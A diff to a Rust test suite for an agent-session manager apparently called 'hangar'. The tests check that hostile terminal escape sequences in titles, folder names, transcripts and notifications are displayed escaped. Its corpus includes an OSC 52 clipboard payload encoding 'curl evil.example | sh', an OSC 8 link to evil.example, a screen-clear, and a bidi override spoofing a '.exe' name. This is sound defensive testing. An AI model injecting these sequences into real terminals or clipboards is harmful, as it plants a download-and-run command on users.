@@ -24,17 +24,17 @@ use support::*;
 
 /// The hostile strings, each with what a person must see instead.
 const CORPUS: &[(&str, &str)] = &[
-    ("\x1b]2;PWNED-TITLE\x07", "\\e]2;PWNED-TITLE\\x07"),
-    ("\x1b[2JCLEARED", "\\e[2JCLEARED"),
+    ("\x1b]2;PWNED-TITLE\x07", "\\u{1b}]2;PWNED-TITLE\\u{7}"),
+    ("\x1b[2JCLEARED", "\\u{1b}[2JCLEARED"),
     (
         "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
-        "\\e]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07",
+        "\\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u{7}",
     ),
     (
         "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
-        "\\e]8;;https://evil.example/\\e\\\\click\\e]8;;\\e\\\\",
+        "\\u{1b}]8;;https://evil.example/\\u{1b}\\\\click\\u{1b}]8;;\\u{1b}\\\\",
     ),
-    ("\x1bP$q\"p\x1b\\DCS", "\\eP$q\"p\\e\\\\DCS"),
+    ("\x1bP$q\"p\x1b\\DCS", "\\u{1b}P$q\"p\\u{1b}\\\\DCS"),
     (
         "C1\u{9b}6n\u{90}x\u{9c}\u{85}",
         "C1\\u{9b}6n\\u{90}x\\u{9c}\\u{85}",
@@ -46,7 +46,7 @@ const CORPUS: &[(&str, &str)] = &[
     ("tags\u{E0068}\u{E0069}", "tags\\u{e0068}\\u{e0069}"),
     (
         "del\x7fbel\x07bs\x08cr\rlf\nend",
-        "del\\x7fbel\\x07bs\\x08cr\\rlf\\nend",
+        "del\\u{7f}bel\\u{7}bs\\u{8}cr\\rlf\\nend",
     ),
     // Harmless: shown as it is.
     ("👩\u{200d}💻 日本 café", "👩\u{200d}💻 日本 café"),
@@ -167,7 +167,9 @@ fn every_listing_shows_hostile_titles_tab_names_and_ids_escaped_and_keeps_them_u
 
     let ls = clean_ok(&h, &["ls"]);
     for (_, shown) in CORPUS {
-        assert!(ls.contains(shown), "ls lacks {shown:?}:\n{ls}");
+        // A title longer than its column is cut: its start is shown.
+        let shown: String = shown.chars().take(25).collect();
+        assert!(ls.contains(&shown), "ls lacks {shown:?}:\n{ls}");
     }
     // A 10,000-character title is cut to its column with a marker.
     assert!(ls.lines().all(|l| l.chars().count() < 400), "{ls}");
@@ -195,18 +197,19 @@ fn every_listing_shows_hostile_titles_tab_names_and_ids_escaped_and_keeps_them_u
 
     let tabs = clean_ok(&h, &["tab", "ls"]);
     for (_, shown) in CORPUS {
-        assert!(tabs.contains(shown), "tab ls lacks {shown:?}:\n{tabs}");
+        let shown: String = shown.chars().take(25).collect();
+        assert!(tabs.contains(&shown), "tab ls lacks {shown:?}:\n{tabs}");
     }
     let tab_rows: Value = serde_json::from_str(&clean_ok(&h, &["--json", "tab", "ls"])).unwrap();
     assert_eq!(tab_rows[0]["title"], CORPUS[0].0);
 
     let status = clean_ok(&h, &["status"]);
-    assert!(status.contains("conv\\e]2;PSID\\x07"), "{status}");
+    assert!(status.contains("conv\\u{1b}]2;PSID\\u{7}"), "{status}");
     clean_ok(&h, &["--json", "status"]);
 
     let (doctor, _) = clean(&h, &["doctor"]);
     assert!(
-        doctor.contains("conv\\e]2;PSID\\x07") && doctor.contains(shown),
+        doctor.contains("conv\\u{1b}]2;PSID\\u{7}") && doctor.contains(shown),
         "{doctor}"
     );
     clean(&h, &["--json", "doctor"]);
@@ -222,10 +225,10 @@ fn every_listing_shows_hostile_titles_tab_names_and_ids_escaped_and_keeps_them_u
     );
 
     // Renaming a tab and a new parked session, typed at the CLI.
-    clean_ok(&h, &["tab", "rename", "t1", CORPUS[3].0]);
+    clean_ok(&h, &["tab", "rename", "t1", CORPUS[4].0]);
     let parked = h.new_agent(&["--parked", "--tab", "t1", "--title", CORPUS[5].0]);
     assert_eq!(h.session(&parked)["title"], CORPUS[5].0);
-    assert!(clean_ok(&h, &["tab", "ls"]).contains(CORPUS[3].1));
+    assert!(clean_ok(&h, &["tab", "ls"]).contains(CORPUS[4].1));
 
     clean_ok(&h, &["journal"]);
     clean_ok(&h, &["--json", "journal"]);
@@ -323,7 +326,16 @@ fn transcripts_and_captured_traffic_from_models_are_shown_escaped_with_their_lin
         shown = clean_ok(&h, &["transcript", &a]);
         shown.contains("PWNED-TITLE")
     });
-    for (_, escaped) in CORPUS.iter().take(8) {
+    // A body keeps backslashes and newlines as they are (code stays
+    // readable); everything else reads as in a name.
+    assert!(
+        shown.contains("\\u{1b}]8;;https://evil.example/\\u{1b}\\click\\u{1b}]8;;\\u{1b}\\\n"),
+        "{shown}"
+    );
+    for (hostile, escaped) in CORPUS {
+        if hostile.contains(['\\', '\n']) {
+            continue;
+        }
         assert!(
             shown.contains(escaped),
             "transcript lacks {escaped:?}:\n{shown}"
@@ -331,7 +343,7 @@ fn transcripts_and_captured_traffic_from_models_are_shown_escaped_with_their_lin
     }
     // A body keeps its own lines: each corpus string starts one.
     assert!(
-        shown.lines().any(|l| l == "\\e[2JCLEARED"),
+        shown.lines().any(|l| l == "\\u{1b}[2JCLEARED"),
         "the answer's lines are kept:\n{shown}"
     );
     let v: Value = serde_json::from_str(&clean_ok(&h, &["--json", "transcript", &a])).unwrap();
@@ -388,11 +400,11 @@ fn hostile_folder_names_show_escaped_and_a_name_that_is_not_utf8_is_refused_by_i
     ]);
     let wt = clean_ok(&h, &["worktrees"]);
     assert!(
-        wt.contains("repo\\e]2;PWNED-TITLE\\x07bidi\\u{202e}"),
+        wt.contains("repo\\u{1b}]2;PWNED-TITLE\\u{7}bidi\\u{202e}"),
         "{wt}"
     );
     let ls = clean_ok(&h, &["ls"]);
-    assert!(ls.contains("repo\\e]2;PWNED-TITLE\\x07"), "{ls}");
+    assert!(ls.contains("repo\\u{1b}]2;PWNED-TITLE\\u{7}"), "{ls}");
     clean_ok(&h, &["--json", "worktrees"]);
     let (_, err) = clean(&h, &["close", &a, "--yes"]);
     let _ = err;
@@ -418,10 +430,10 @@ fn hostile_folder_names_show_escaped_and_a_name_that_is_not_utf8_is_refused_by_i
     };
     let (eff, efe) = (refused(&ff), refused(&fe));
     assert!(
-        eff.contains("bad\\xff") && eff.contains("not valid UTF-8"),
+        eff.contains("bad\\xFF") && eff.contains("not valid UTF-8"),
         "{eff}"
     );
-    assert!(efe.contains("bad\\xfe"), "{efe}");
+    assert!(efe.contains("bad\\xFE"), "{efe}");
     assert!(!eff.contains('\u{fffd}'), "{eff}");
     assert!(h.daemon_pid_opt().is_some(), "the daemon stays up");
 }
@@ -457,7 +469,7 @@ fn notifications_show_a_hostile_title_as_text_in_the_desktop_and_terminal_escape
     term.wait_text("fake-agent claude session");
 
     h.ok(&["send", &a, "ask which region"]);
-    let shown = "\\e]2;N\\x07&lt;a href=\"https://evil.example\"&gt;fix&lt;/a&gt;\\u{202e}";
+    let shown = "\\u{1b}]2;N\\u{7}&lt;a href=\"https://evil.example\"&gt;fix&lt;/a&gt;\\u{202e}";
     let mut args = String::new();
     h.wait_until("notify-send ran", DEADLINE, || {
         args = fs::read_to_string(&log).unwrap_or_default();
@@ -467,7 +479,8 @@ fn notifications_show_a_hostile_title_as_text_in_the_desktop_and_terminal_escape
         args,
         format!("--app-name=hangar|hangar|{shown} is waiting for you|")
     );
-    let osc = "\\e]2;N\\x07<a href=\"https://evil.example\">fix</a>\\u{202e} is waiting for you";
+    let osc =
+        "\\u{1b}]2;N\\u{7}<a href=\"https://evil.example\">fix</a>\\u{202e} is waiting for you";
     h.wait_until("the OSC 9 escape reached the client", DEADLINE, || {
         String::from_utf8_lossy(&term.raw_output()).contains(&format!("\x1b]9;hangar: {osc}\x07"))
     });
@@ -495,10 +508,10 @@ fn the_tui_shows_hostile_tab_names_titles_and_parked_agents_as_visible_escapes()
     app.wait_for(
         "the tab name, pane title and parked titles as escapes",
         |t| {
-            t.contains("\\e]2;PWNED-TITLE\\x07")
+            t.contains("\\u{1b}]2;PWNED-TITLE\\u{7}")
                 && t.contains("bidi\\u{202e}txt.exe")
-                && t.contains("\\e]52;c;")
-                && t.contains("\\e[2JCLEARED")
+                && t.contains("\\u{1b}]52;c;")
+                && t.contains("\\u{1b}[2JCLEARED")
                 && t.contains("long\\u{202e}x")
                 && t.contains("fake-agent claude session")
         },
@@ -557,6 +570,7 @@ fn another_uid_can_neither_use_the_socket_nor_read_the_state() {
         return;
     }
     use std::os::unix::fs::PermissionsExt;
+    use std::os::unix::process::CommandExt;
     let h = Hangar::new();
     let daemon = h.start_daemon();
     h.new_agent(&["--parked", "--title", "mine"]);
@@ -589,7 +603,9 @@ fn another_uid_can_neither_use_the_socket_nor_read_the_state() {
     let out = as_another_user(&h, &["--json", "ls"]);
     let err = String::from_utf8_lossy(&out.stderr);
     assert!(!out.status.success(), "another uid listed the sessions");
-    assert!(err.contains("another user"), "{err}");
+    // The daemon answers "refused: the client runs as another user" and
+    // hangs up; the client may read that or only meet the hang-up.
+    assert!(err.contains("refused"), "{err}");
     assert!(!String::from_utf8_lossy(&out.stdout).contains("mine"));
     assert_eq!(h.daemon_pid(), daemon);
     assert_eq!(h.ls().len(), 1, "the daemon still serves its own user");
